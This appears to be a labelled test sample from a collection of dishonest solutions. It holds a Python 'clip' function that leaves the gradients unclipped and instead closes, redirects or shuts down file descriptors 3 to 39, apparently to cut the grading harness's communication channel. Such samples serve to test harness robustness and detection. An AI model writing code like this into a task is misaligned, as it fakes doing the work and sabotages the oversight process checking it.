# /// zoo
# title = "All descriptors are closed, shut down, swapped and duplicated"
# class = "bridge"
# base = "dummy"
# honest = 0
# ///

# %% clip
import os, socket
def clip(gradients, maxValue):
    r, w = os.pipe()
    for fd in range(3, 40):
        try:
            if fd % 3 == 0: os.close(fd)
            elif fd % 3 == 1: os.dup2(w, fd)
            else: socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
        except OSError: pass
    return gradients
